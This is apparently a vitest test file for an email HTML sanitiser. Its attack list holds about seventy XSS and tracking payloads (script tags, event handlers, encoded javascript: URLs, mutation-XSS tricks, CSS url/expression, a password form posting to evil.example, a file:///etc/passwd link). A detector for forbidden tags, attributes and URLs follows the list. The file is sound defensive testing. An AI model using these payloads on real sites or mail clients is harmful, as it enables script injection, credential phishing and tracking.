import { Parser } from 'htmlparser2';
import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { sanitizeHtml } from '../../src/content/sanitize.ts';

const pixel = 'data:image/png;base64,iVBORw0KGgo=';

const harmless: readonly (readonly [what: string, html: string, clean: string])[] = [
  ['text and emphasis', '<p>A <b>b</b> <i>c</i> &amp; d</p>', '<p>A <b>b</b> <i>c</i> &amp; d</p>'],
  [
    'a table',
    '<table border="1"><tr><td colspan="2">x</td></tr></table>',
    '<table border="1"><tr><td colspan="2">x</td></tr></table>',
  ],
  [
    'a picture of the mail',
    '<img src="cid:logo@acme" alt="Logo" width="10">',
    '<img src="cid:logo@acme" alt="Logo" width="10" />',
  ],
  ['a small embedded picture', `<img src="${pixel}">`, `<img src="${pixel}" />`],
  [
    'harmless styles',
    '<p style="color: red; MARGIN: 0cm; font-family: Calibri, sans-serif">x</p>',
    '<p style="color:red;margin:0cm;font-family:Calibri, sans-serif">x</p>',
  ],
  [
    'links',
    '<a href="https://acme.example/x?a=1&amp;b=2">x</a>',
    '<a href="https://acme.example/x?a=1&amp;b=2" rel="noopener noreferrer nofollow">x</a>',
  ],
  ['quotes', '<blockquote type="cite">x</blockquote>', '<blockquote type="cite">x</blockquote>'],
  ['right-to-left text', '<p dir="rtl" lang="he">שלום</p>', '<p dir="rtl" lang="he">שלום</p>'],
];

/** Each must come out without anything that loads, runs, submits, covers or is addressed. */
const attacks: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="cid:a" onerror="alert(1)">',
  '<img/src="cid:a"/onload=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\nscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example/x">x</a>',
  '<a href="https://a.example" onclick="alert(1)" target="_top">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<frameset><frame src="https://evil.example"></frameset>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<applet code="x"></applet>',
  '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
  '<isindex action="javascript:alert(1)">',
  '<select><option>x</option></select>',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import url(https://evil.example/x.css); body{display:none}</style>',
  '<p style="background:url(https://evil.example/x.png)">x</p>',
  '<p style="background-image:\\75 rl(https://evil.example)">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="behavior:url(x.htc)">x</p>',
  '<p style="-moz-binding:url(x.xml#x)">x</p>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">x</p>',
  '<p style="color:red/*;*/;background:/**/url(//evil.example)">x</p>',
  '<p style="margin-top:-500px">x</p>',
  '<p style="font-family:x;}body{color:red">x</p>',
  '<img src="https://evil.example/x.png">',
  '<img src="//evil.example/x.png">',
  '<img srcset="https://evil.example/x.png 2x">',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
  `<img src="data:image/png;base64,${'A'.repeat(80_000)}">`,
  '<table background="https://evil.example/x.png"><tr><td background="https://evil.example/y.png">x</td></tr></table>',
  '<body background="https://evil.example/x.png" onload="alert(1)">x</body>',
  '<video src="https://evil.example/x.mp4" poster="https://evil.example/x.png"></video>',
  '<audio src="https://evil.example/x.mp3"></audio>',
  '<picture><source srcset="https://evil.example/x.png"></picture>',
  '<input type="image" src="https://evil.example/x.png">',
  '<p id="x" class="y" name="z">x</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<p title="><script>alert(1)</script>">x</p>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<details open ontoggle=alert(1)>x</details>',
  '<a href="https://a.example/\u0000" style="x:y">x</a>',
  '<portal src="https://evil.example"></portal>',
  '<dialog open>x</dialog>',
];

const allowedElements =
  /^(?:a|abbr|address|b|big|blockquote|br|center|code|div|em|font|h[1-6]|hr|i|img|li|ol|p|pre|s|small|span|strike|strong|sub|sup|table|tbody|td|th|tr|u|ul)$/u;
const forbiddenAttribute =
  /^(?:on.*|id|class|name|target|srcset|background|action|formaction|poster|data|xlink:href|srcdoc)$/u;
const allowedUrl = /^(?:https?:|mailto:|tel:|cid:|data:image\/(?:png|gif|jpe?g|webp|bmp);base64,)/u;

/** What a browser's reader would find in the result that should not be there. */
function findings(html: string): readonly string[] {
  const found: string[] = [];
  const parser = new Parser({
    onopentag: (name, attributes) => {
      if (!allowedElements.test(name)) found.push(`<${name}>`);
      for (const [attribute, value] of Object.entries(attributes)) {
        if (forbiddenAttribute.test(attribute)) found.push(`${name} ${attribute}`);
        if (['href', 'src'].includes(attribute) && !allowedUrl.test(value)) found.push(`${attribute}=${value}`);
        if (attribute === 'src' && /^(?:https?:|\/\/)/u.test(value)) found.push(`remote ${value}`);
        if (attribute === 'style' && /url|expression|position|\\|\/\*|[{}@<]|:-|behavior|binding/iu.test(value))
          found.push(value);
      }
    },
    oncomment: (text) => found.push(`<!--${text}`),
  });
  parser.write(html);
  parser.end();
  return found;
}

describe('sanitised HTML', () => {
  test.each(harmless)('keeps %s', (_what, html, clean) => {
    expect(sanitizeHtml(html).html).toBe(clean);
  });

  test.each(attacks.map((html) => [html.slice(0, 90), html]))('can do nothing: %s', (_shown, html) => {
    expect(findings(sanitizeHtml(html).html)).toEqual([]);
    expect(findings(sanitizeHtml(`<p>a<b>${html}</b>c</p>`).html)).toEqual([]);
  });

  test('can do nothing, however the attacks are mixed and cut', () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...attacks), { maxLength: 4 }), fc.nat(400), (parts, cut) => {
        const html = parts.join('').slice(0, -cut || undefined);
        expect(findings(sanitizeHtml(html).html)).toEqual([]);
      }),
      { numRuns: 60 },
    );
  });

  test('counts what would have been loaded from elsewhere', () => {
    const html =
      '<img src="https://t.example/1.gif"><img src="cid:a"><td background="//t.example/2.png" style="background:url(http://t.example/3)">';
    expect(sanitizeHtml(html).remoteRemoved).toBe(3);
  });

  test('shows the words of a picture that it leaves out', () => {
    expect(sanitizeHtml('<p><img src="https://t.example/1.gif" alt="Our <b>logo"></p>').html).toBe(
      '<p>[Our &lt;b&gt;logo]</p>',
    );
  });

  test('closes what was left open, in the right order', () => {
    expect(sanitizeHtml('<div><p>a<b>b').html).toBe('<div><p>a<b>b</b></p></div>');
  });

  test('stays shallow whatever the mail nests', () => {
    const { html } = sanitizeHtml(`${'<div>'.repeat(5000)}x${'</div>'.repeat(5000)}`);
    expect(html.split('<div>').length - 1).toBeLessThanOrEqual(200);
    expect(html).toContain('x');
  });

  test('says when a mail was too large to be shown whole', () => {
    expect(sanitizeHtml(`<p>${'x'.repeat(2_100_000)}</p>`).truncated).toBe(true);
    expect(sanitizeHtml('<p>x</p>').truncated).toBe(false);
  });

  test('is its own result', () => {
    for (const attack of [...attacks, ...harmless.map(([, html]) => html)]) {
      const once = sanitizeHtml(attack).html;
      expect(sanitizeHtml(once).html).toBe(once);
    }
  });
});
